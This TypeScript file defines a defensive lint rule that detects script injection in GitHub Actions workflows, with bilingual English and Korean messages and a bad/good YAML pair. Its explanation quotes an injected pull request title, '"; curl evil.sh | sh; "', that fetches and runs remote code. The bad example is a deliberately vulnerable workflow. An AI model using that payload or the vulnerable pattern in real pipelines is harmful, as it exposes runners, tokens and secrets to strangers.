import {inputOf, type Workflow} from '../../../syntax/workflow.ts';
import {particle} from '../../../text/particle.ts';
import type {Rule} from '../../rule.ts';
import {missingJobs} from '../presence.ts';
import {isUntrusted} from '../untrusted.ts';

/** Texts of strangers never become part of a script. */
export const noScriptInjection: Rule<Workflow> = {
  id: 'workflow/no-script-injection',
  title: {en: 'No text of strangers is pasted into a script', ko: '남이 쓴 글을 스크립트에 그대로 넣지 않아요'},
  why: {
    en: '`${{ … }}` is replaced before the shell reads the script. A pull request titled `"; curl evil.sh | sh; "` then runs that command on your runner, with its token and secrets. Given by `env:`, the same text is only a value.',
    ko: '`${{ … }}`는 셸이 스크립트를 읽기 전에 값으로 바뀌어요. 제목이 `"; curl evil.sh | sh; "`인 풀 리퀘스트가 오면 그 명령이 토큰과 시크릿이 있는 러너에서 실행돼요. `env:`로 넘기면 같은 글이 그냥 값으로 남아요.',
  },
  learn: 'actions-deploy#paste',
  reference: 'https://docs.github.com/en/actions/concepts/security/script-injections',
  alsoKnownAs: ['zizmor template-injection', 'actionlint expression'],
  severity: 'warning',
  bad: 'on: pull_request\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "${{ github.event.pull_request.title }}"\n',
  good: 'on: pull_request\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "$TITLE"\n        env:\n          TITLE: ${{ github.event.pull_request.title }}\n',
  missing: missingJobs,
  *check({jobs, expressions}) {
    const scripts = new Set(jobs.flatMap(({steps}) => steps.flatMap((step) => [step.run, inputOf(step, 'script')])));
    for (const {scalar, paths, outer} of expressions) {
      const path = scripts.has(scalar) ? paths.find(isUntrusted) : undefined;
      if (path === undefined) continue;
      const name = path.names.join('.');
      const variable = (path.names.at(-1) ?? 'value').toUpperCase();
      yield {
        span: outer,
        message: {
          en: `\`${name}\` is written by anybody who opens an issue, a pull request or a branch, and becomes part of this script: whatever stands in it is run. Put it under \`env:\` as \`${variable}: \${{ ${name} }}\` and write \`"$${variable}"\` here.`,
          ko: `${particle(`\`${name}\``, '은/는')} 이슈나 풀 리퀘스트, 브랜치를 만드는 사람이 마음대로 쓸 수 있는데 이 스크립트의 일부가 돼서 그 안의 명령까지 실행돼요. \`env:\`에 \`${variable}: \${{ ${name} }}\`를 적고 여기서는 \`"$${variable}"\`로 쓰세요.`,
        },
      };
    }
  },
};
